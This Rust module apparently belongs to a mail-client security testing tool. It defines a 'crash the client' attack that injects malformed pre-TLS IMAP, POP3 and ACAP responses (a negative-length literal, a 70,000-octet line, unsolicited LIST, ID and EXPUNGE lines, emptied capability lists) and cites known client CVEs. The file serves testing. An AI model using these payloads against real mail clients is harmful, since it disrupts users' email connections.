//! Sends what a client's reader may break down on.

use super::kit::asked;
use super::{Attack, Deciding, Group, tamper};
use crate::base::{Layer, Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::proto::Answer;
use crate::trace::Verb;

switch!(
    Middle NONSENSE,
    "nonsense",
    Setting,
    &["early-data", "negative-length", "long-line", "early-folder", "early-id", "empty-list", "bad-again"],
    &[],
    "Nonsense",
    "Data that belongs behind a login, a literal of negative length, a line of 70,000 octets, a folder, the server's name for itself that nobody asked for, a list of capabilities with nothing in it, as of a server without any mechanism, or BAD to every question for one; in POP3 a line that is no answer."
);

static SWITCHES: &[&Switch] = &[&NONSENSE];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Acap],
        given: &[],
        right: &[],
        wrong: &["client.fragile=on"],
    },
    Deciding {
        protocols: &Protocol::ALL,
        given: &["middle.nonsense=empty-list"],
        right: &[],
        wrong: &["client.fragile=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3],
        given: &["middle.nonsense=bad-again"],
        right: &[],
        wrong: &["client.fragile=on"],
    },
    Deciding {
        protocols: &[Protocol::Pop3],
        given: &["middle.nonsense=long-line"],
        right: &[],
        wrong: &["client.fragile=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "pre-tls-crash-loop",
    title: "Crash the client",
    about: "Sends a line behind the greeting that makes no sense there, or answers that lead nowhere, to reach faults in the client's reader without TLS.",
    group: Group::Texts,
    known: &["CVE-2020-16117 Evolution", "CVE-2020-16118 Balsa", "CVE-2026-92240 Thunderbird"],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let long = switches.get(&NONSENSE) == "long-line";
        let nonsense = switches.get(&NONSENSE);
        tamper(move |message, moves| {
            if nonsense == "bad-again"
                && let Some(asked) = asked(dialect, &message).filter(|asked| asked.verb == Verb::Capability)
            {
                moves.answer((dialect.answer)(&asked.tag, Answer::Bad, "this command is not known here"));
                return;
            }
            if nonsense == "empty-list" {
                // Without the lists there is one question more to answer, whose list is emptied as well.
                let emptied = message.from == Side::Server && message.layer == Layer::Clear;
                match emptied.then(|| (dialect.without_capabilities)(message.octets, &|_| true)).flatten() {
                    Some(octets) => moves.replace(octets),
                    None => moves.pass(),
                }
                return;
            }
            moves.pass();
            // In ACAP there is no question to answer so.
            if nonsense == "bad-again" && dialect.protocol != Protocol::Acap {
                return;
            }
            if !message.is_greeting() {
                return;
            }
            moves.add(match dialect.protocol {
                _ if long => [&b"* "[..], &[b'A'; 70_000], b"\r\n"].concat(),
                Protocol::Pop3 => b"~ ~ ~\r\n".to_vec(),
                _ if nonsense == "negative-length" => b"* LIST () \"/\" {-1}\r\n".to_vec(),
                Protocol::Imap if nonsense == "early-folder" => b"* LIST () \"/\" INBOX\r\n".to_vec(),
                Protocol::Imap if nonsense == "early-id" => b"* ID NIL\r\n".to_vec(),
                Protocol::Imap => b"* 1 EXPUNGE\r\n".to_vec(),
                Protocol::Acap => b"* REMOVEFROM \"ctx\" \"gone\" 1\r\n".to_vec(),
            });
        })
    },
    success: &success::BROKE_DOWN,
    deciding: DECIDING,
};
